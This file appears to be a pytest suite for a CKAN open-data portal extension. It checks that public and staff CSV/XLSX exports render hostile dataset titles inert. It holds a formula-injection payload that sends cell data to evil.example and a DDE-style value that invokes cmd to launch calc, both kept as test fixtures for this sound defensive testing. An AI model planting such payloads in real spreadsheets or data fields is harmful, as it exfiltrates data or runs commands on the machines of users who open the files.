"""Hostile and messy input (issue 15): nothing breaks, nothing leaks, nothing runs.
Real PostgreSQL, Solr and CKAN; every output fetched as a user would."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from ckan.cli.cli import ckan

from ckanext.lutsk.domain import tabular, workdays
from tests.lutsk_factories import body_org, dataset, staff

EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
T = workdays.kyiv_today()

pytestmark = pytest.mark.usefixtures("with_plugins")


def _dt(days_ago: int) -> str:
    return f"{(T - timedelta(days=days_ago)).isoformat()}T10:00:00"


@pytest.fixture(scope="module")
def world(fresh_portal):
    fin, ict = body_org("finance-budget"), body_org("ict")
    users = staff(ict=(ict, "member"), fin=(fin, "editor"))
    dataset(
        owner_org=fin["id"],
        name="evil-budget",
        title=EVIL,
        notes="@SUM(1+1)*cmd|' /C calc'!A0",
        annex835_row="L31",
        update_frequency="once a month",
        date_published=_dt(400),
        data_updated=_dt(100),
    )
    return {"users": users}


def _as(world, who):
    return {"Authorization": world["users"][who]["token"]}


def _csv_cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first, for Excel"
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert_csv(data: bytes, expect_evil: bool = True) -> None:
    cells = _csv_cells(data)
    assert not [c for c in cells if tabular.is_live_formula(c)]
    if expect_evil:
        assert "'" + EVIL in cells


def _assert_inert_xlsx(data: bytes, expect_evil: bool = True) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f" or tabular.is_live_formula(c.value)]
    if expect_evil:
        assert "'" + EVIL in {c.value for c in cells}


class TestFormulaInjection:
    """A title ``=HYPERLINK(...)`` comes out inert in every CSV and XLSX the portal writes."""

    def test_public_register(self, app, world):
        _assert_inert_csv(app.get("/lutsk/register.csv").get_data())
        _assert_inert_xlsx(app.get("/lutsk/register.xlsx").get_data())

    def test_passport_csv(self, app, world):
        _assert_inert_csv(app.get("/dataset/evil-budget/passport.csv").get_data())

    def test_deadlines_exports(self, app, world):
        headers = _as(world, "ict")
        _assert_inert_csv(app.get("/lutsk/deadlines/export.csv", headers=headers).get_data())
        _assert_inert_xlsx(app.get("/lutsk/deadlines/export.xlsx", headers=headers).get_data())

    def test_coverage_exports(self, app, world):
        # The matrix names datasets by their (safe) name; the file must still be the safe kind.
        headers = _as(world, "ict")
        _assert_inert_csv(app.get("/lutsk/coverage/export.csv", headers=headers).get_data(), False)
        _assert_inert_xlsx(app.get("/lutsk/coverage/export.xlsx", headers=headers).get_data(), False)

    def test_audit_plan_xlsx(self, app, world):
        year = T.year + 1
        data = app.get(f"/lutsk/audit-plan/export.xlsx?year={year}", headers=_as(world, "ict")).get_data()
        _assert_inert_xlsx(data)

    def test_cli_outputs(self, cli, world, tmp_path):
        out = tmp_path / "register.csv"
        ok = cli.invoke(ckan, ["lutsk", "register", "export", "--output", str(out)])
        assert ok.exit_code == 0, ok.output
        _assert_inert_csv(out.read_bytes())
        out = tmp_path / "register.xlsx"
        ok = cli.invoke(ckan, ["lutsk", "register", "export", "--format", "xlsx", "--output", str(out)])
        assert ok.exit_code == 0, ok.output
        _assert_inert_xlsx(out.read_bytes())
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"deadlines.{fmt}"
            ok = cli.invoke(ckan, ["lutsk", "deadlines", "report", "--format", fmt, "--output", str(out)])
            assert ok.exit_code == 0, ok.output
            (_assert_inert_csv if fmt == "csv" else _assert_inert_xlsx)(out.read_bytes())
        out = tmp_path / "coverage.csv"
        ok = cli.invoke(ckan, ["lutsk", "coverage", "export", "--format", "csv", "--output", str(out)])
        assert ok.exit_code == 0, ok.output
        _assert_inert_csv(out.read_bytes(), False)
